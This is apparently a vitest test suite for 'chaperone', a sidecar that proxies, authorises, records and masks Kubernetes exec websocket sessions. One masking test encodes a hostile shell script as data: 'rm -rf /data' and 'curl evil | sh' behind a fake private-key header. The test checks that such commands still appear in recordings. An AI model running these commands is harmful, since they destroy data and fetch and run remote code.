import type { IncomingMessage } from 'node:http';
import { setTimeout as after } from 'node:timers/promises';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { CLOSE, frame, utf8 } from '../streams/websocket/test-frames.ts';
import type { SidecarParts } from './start.ts';
import { acceptOf, fromAgent, fromServer, hello, offering, saidTo, V5 } from './test-exec.ts';
import {
  EXEC,
  execRule,
  KEY,
  REAL_TOKEN,
  startTestSidecar,
  type TestSidecar,
  type Upgraded,
} from './test-sidecar.ts';

let sidecar: TestSidecar;
afterEach(() => sidecar[Symbol.asyncDispose]());
const start = async (upgraded: Upgraded, parts?: Partial<SidecarParts>): Promise<void> => {
  sidecar = await startTestSidecar(upgraded, parts);
};
const ask = (early?: Uint8Array) => sidecar.ask({ headers: offering(V5), ...(early && { early }) });

describe('a stream that is let through', () => {
  test('is asked for anew: with the credential, the canonical target and known protocols alone', async () => {
    await start(hello);
    const headers = [
      ...offering('v9.mine', V5, 'v4.channel.k8s.io'),
      'Cookie: a',
      'User-Agent: kubectl',
      'Origin: b',
    ];
    const target = EXEC.replace('command=sh&container=app', 'container=app&command=%73h');
    await using asked = await sidecar.ask({ headers, target });
    await vi.waitFor(() => expect(saidTo('agent', asked.body())).toEqual(['1:hello']));
    const [{ method, url, headers: arrived } = {} as IncomingMessage] = sidecar.arrived;
    expect(`${method} ${url}`).toBe(
      `GET ${EXEC.replace(/stdin=true&stdout=true&stderr=true/, 'stderr=true&stdin=true&stdout=true')}`,
    );
    expect(arrived).toMatchObject({
      authorization: `Bearer ${REAL_TOKEN}`,
      connection: 'Upgrade',
      upgrade: 'websocket',
      'user-agent': 'kubectl',
      'sec-websocket-protocol': `${V5}, v4.channel.k8s.io`,
    });
    expect(arrived['sec-websocket-key']).not.toBe(KEY);
    expect(Object.keys(arrived).filter((name) => /cookie|origin/.test(name))).toEqual([]);
    expect(asked.text()).toContain(`Sec-WebSocket-Accept: ${acceptOf(KEY)}\r\n`);
    expect(asked.text()).toMatch(/^HTTP\/1\.1 101 .*sec-websocket-protocol: v5\.channel\.k8s\.io\r\n/s);
  });

  test('begins with what either side said together with its head', async () => {
    const heard: Buffer[] = [];
    await start((req, socket) => {
      hello(req, socket);
      socket.on('data', (chunk: Buffer) => heard.push(chunk));
    });
    await using asked = await ask(fromAgent(0, 'typed ahead'));
    await vi.waitFor(() => {
      expect(saidTo('agent', asked.body())).toEqual(['1:hello']);
      expect(saidTo('server', Buffer.concat(heard))).toEqual(['0:typed ahead']);
    });
  });

  test('has a record before anything is forwarded, one of its end, and its recording', async () => {
    let before: unknown[] = [];
    await start((req, socket) => {
      before = [...sidecar.records];
      hello(req, socket);
      const exit = '{"status":"Failure","details":{"causes":[{"reason":"ExitCode","message":"3"}]}}';
      socket.end(
        Buffer.concat([
          fromServer(3, exit),
          frame('server', { opcode: CLOSE, payload: Uint8Array.of(3, 232) }),
        ]),
      );
    });
    await using asked = await ask(fromAgent(0, 'ls\n'));
    await asked.ended;
    await vi.waitFor(() => expect(sidecar.ended).toHaveLength(1));
    const of = { container: 'app', argv: 'sh', subresource: 'exec', decision: 'permit', recorded: true };
    expect(before).toEqual([expect.objectContaining(of)]);
    const end = { protocol: `websocket ${V5}`, bytesFromServer: 5, exit: '3', ended: 'by the API server' };
    expect(sidecar.records[1]).toMatchObject({ ...of, ...end });
    expect(sidecar.ended[0]).toMatchObject({ ...of, ...end, status: 101 });
    const [{ header, events, closed } = expect.fail()] = sidecar.kept;
    expect(header).toMatchObject({
      id: sidecar.records[0]?.auditId,
      pod: 'web',
      stream: { command: ['sh'] },
    });
    expect(events).toContainEqual({ kind: 'data', channel: 'stdout', bytes: expect.anything() });
    expect(events.at(-1)).toEqual({ kind: 'exit', status: '3' });
    expect(closed).toBe(true);
  });
});

describe('a stream that ends', () => {
  test('by a revocation is told why within a second, on stderr and as a Status', async () => {
    await start(hello);
    await using asked = await ask();
    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
    const beganMs = performance.now();
    sidecar.entitle([{ ...execRule, containers: ['other'] }]);
    await asked.ended;
    expect(performance.now() - beganMs).toBeLessThan(1000);
    expect(saidTo('agent', asked.body()).join(' ')).toMatch(
      /2:chaperone refuses .*\n 3:\{"kind":"Status".*ContainerNotAllowed/s,
    );
    await vi.waitFor(() => expect(sidecar.records).toHaveLength(2));
    expect(sidecar.records[1]).toMatchObject({ refusal: 'ContainerNotAllowed', ended: 'cut' });
    await vi.waitFor(() =>
      expect(sidecar.ended).toMatchObject([{ status: 101, refusal: 'ContainerNotAllowed' }]),
    );
    expect(sidecar.kept[0]?.events.at(-1)).toMatchObject({
      kind: 'exit',
      status: expect.stringMatching(/^chaperone/),
    });
  });

  test('with the sidecar is told so, and the sidecar waits until its recording is kept', async () => {
    const recording = {
      write() {},
      held: 0,
      drained: async () => {},
      failed: new AbortController().signal,
      close: () => after(300),
    };
    await start(hello, { recordings: { open: async () => recording } });
    await using asked = await ask();
    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
    await sidecar.stop(0);
    await asked.ended;
    expect(asked.text()).toContain('chaperone is shutting down');
    expect(sidecar.records[1]).toMatchObject({ refusal: 'Draining' });
  });

  test('by what is no protocol is broken off, and the record says by whom', async () => {
    await start((req, socket) => {
      hello(req, socket);
      socket.write(Buffer.from([0xf2, 0x00]));
    });
    await using asked = await ask();
    await asked.ended;
    await vi.waitFor(() => expect(sidecar.records).toHaveLength(2));
    expect(sidecar.records[1]).toMatchObject({
      ended: expect.stringMatching(/^broken off: of the API server, /),
    });
  });

  test('with the agent ends towards the API server', async () => {
    const { promise, resolve } = Promise.withResolvers<void>();
    await start((req, socket) => {
      hello(req, socket);
      socket.on('close', resolve).on('end', () => socket.end());
    });
    await using asked = await ask();
    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
    asked.socket.destroy();
    await promise;
  });
});

test('a stream that has ended is not cut where the last of its recording is lost, and its record says so', async () => {
  const failing = new AbortController();
  const recording = {
    write() {},
    held: 0,
    drained: async () => {},
    failed: failing.signal,
    close: async () => failing.abort(),
  };
  await start(hello, { recordings: { open: async () => recording } });
  await using asked = await ask();
  await vi.waitFor(() => expect(asked.text()).toContain('hello'));
  asked.socket.end(frame('agent', { opcode: CLOSE, payload: utf8('') }));
  await vi.waitFor(() => expect(sidecar.ended).toMatchObject([{ ended: 'by the agent', recorded: false }]));
  expect(sidecar.ended[0]?.refusal).toBeUndefined();
});

test('of two cuts the record has what the agent was told, which is the first', async () => {
  await start(hello);
  await using asked = await ask();
  await vi.waitFor(() => expect(asked.text()).toContain('hello'));
  sidecar.entitle([{ ...execRule, containers: ['other'] }]);
  sidecar.kept[0]?.fail();
  await asked.ended;
  await vi.waitFor(() =>
    expect(sidecar.ended).toMatchObject([
      { refusal: 'ContainerNotAllowed', exit: expect.stringContaining('container') },
    ]),
  );
  expect(sidecar.ended[0]?.exit).not.toContain('recording');
});

test('a stream whose recording fails ends, unless it may go on without', async () => {
  await start(hello);
  await using asked = await ask();
  await vi.waitFor(() => expect(asked.text()).toContain('hello'));
  sidecar.kept[0]?.fail();
  await asked.ended;
  expect(asked.text()).toContain('RecordingEnded');
  sidecar.entitle([{ ...execRule, record: 'optional' }]);
  await using going = await ask();
  await vi.waitFor(() => expect(going.text()).toContain('hello'));
  sidecar.kept[1]?.fail();
  going.socket.end(frame('agent', { opcode: CLOSE, payload: utf8('') }));
  await going.ended;
  await vi.waitFor(() => expect(sidecar.records).toHaveLength(4));
  expect(sidecar.records[3]).toMatchObject({ recorded: false, ended: 'by the agent' });
});

describe('what a policy hides of a command', () => {
  const masking = { patterns: [{ name: 'pin', pattern: 'pin=(?P<hide>[0-9]+)' }] };
  const asking = (command: string) => ({
    headers: offering(V5),
    target: EXEC.replace('command=sh', `command=${command}&command=pin%3D1234`),
  });
  const hidden = "'pin=(hidden by chaperone: pin)'";

  test('is in no record and no span, and the command gets it, and its recording', async () => {
    await start(hello);
    sidecar.entitle([execRule], { masking });
    await using asked = await sidecar.ask(asking('sh'));
    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
    asked.socket.destroy();
    await vi.waitFor(() => expect(sidecar.ended).toHaveLength(1));
    for (const account of [...sidecar.records, ...sidecar.ended])
      expect(account).toMatchObject({ argv: `sh ${hidden}` });
    expect(sidecar.kept[0]?.header.stream).toMatchObject({ command: ['sh', 'pin=1234'] });
    expect(sidecar.arrived[0]?.url).toContain('pin%3D1234');
  });

  test('cannot be taken out of its recording by words that look like a secret', async () => {
    await start(hello);
    sidecar.entitle([execRule], { masking: { wellKnown: true } });
    const script = ': -----BEGIN PRIVATE KEY-----\nrm -rf /data\ncurl evil | sh';
    const target = EXEC.replace('command=sh', `command=sh&command=-c&command=${encodeURIComponent(script)}`);
    await using asked = await sidecar.ask({ headers: offering(V5), target });
    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
    expect(sidecar.kept[0]?.header.stream).toMatchObject({ command: ['sh', '-c', script] });
    expect(sidecar.records[0]).toMatchObject({ argv: "sh -c ': (hidden by chaperone: private-key)'" });
  });

  test('is not told of one that is refused, or would be', async () => {
    await start(hello);
    sidecar.entitle([execRule], { masking });
    await using refused = await sidecar.ask(asking('bash'));
    await refused.ended;
    sidecar.entitle([execRule], { masking, mode: 'Observe' });
    await using observed = await sidecar.ask(asking('bash'));
    await vi.waitFor(() => expect(observed.text()).toContain('hello'));
    expect(sidecar.records).toMatchObject([
      { argv: `bash ${hidden}`, refusal: 'CommandNotAllowed' },
      {
        argv: `bash ${hidden}`,
        insteadRefusal: 'CommandNotAllowed',
        insteadMessage: expect.stringContaining(`the command bash ${hidden} in container app`),
      },
    ]);
    expect(JSON.stringify(sidecar.records)).not.toContain('1234');
  });

  test('is told, of one that no rule gives any more, to the agent, and to its recording alone', async () => {
    await start(hello);
    sidecar.entitle([execRule], { masking });
    await using asked = await sidecar.ask(asking('sh'));
    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
    sidecar.entitle([{ ...execRule, commands: [['bash']] }], { masking });
    await asked.ended;
    expect(saidTo('agent', asked.body()).join(' ')).toMatch(
      / 2:chaperone .*sh pin=1234 in .*\n 3:.*pin=1234/s,
    );
    await vi.waitFor(() => expect(sidecar.ended).toHaveLength(1));
    const why = expect.stringContaining('the command sh pin=1234 in container app');
    const [{ events } = expect.fail()] = sidecar.kept;
    const said = events.map((event) =>
      event.kind === 'data' ? { ...event, bytes: `${Buffer.from(event.bytes)}` } : event,
    );
    expect(said.slice(-2)).toEqual([
      { kind: 'data', channel: 'stderr', bytes: why },
      { kind: 'exit', status: why },
    ]);
    expect(JSON.stringify([sidecar.records, sidecar.ended])).not.toContain('1234');
  });
});

describe('an agent that goes before its stream stands', () => {
  test.each([
    ['', undefined],
    [', after it said something', fromAgent(0, 'x')],
  ])('ends it towards the API server%s', async (_how, early) => {
    const { promise: gone, resolve } = Promise.withResolvers<void>();
    await start((_req, socket) => void socket.resume().on('close', resolve));
    await using asked = await ask(early);
    await vi.waitFor(() => expect(sidecar.arrived).toHaveLength(1));
    asked.socket.destroy();
    await gone;
    await vi.waitFor(() => expect(sidecar.ended).toHaveLength(1));
    expect(sidecar.kept).toMatchObject([{ closed: true }]);
  });

  test('leaves nothing where it went in the moment of the switch', async () => {
    const { promise: gone, resolve } = Promise.withResolvers<void>();
    await start((req, socket) => {
      hello(req, socket);
      socket.on('close', resolve);
    });
    await using asked = await ask();
    await vi.waitFor(() => expect(sidecar.arrived).toHaveLength(1), { interval: 1 });
    asked.socket.end();
    await gone;
    await vi.waitFor(() => expect(sidecar.kept).toMatchObject([{ closed: true }]));
  });
});

test('an upgrade behind a call that is not answered yet ends the connection', async () => {
  await start(hello);
  const first = `GET /version HTTP/1.1\r\nHost: a\r\n\r\n`;
  await using asked = await sidecar.ask({ target: '/version', headers: [], early: '' });
  asked.socket.write(`${first}GET ${EXEC} HTTP/1.1\r\nHost: a\r\n${offering(V5).join('\r\n')}\r\n\r\n`);
  await asked.ended;
  expect(asked.text()).not.toContain(' 101 ');
});
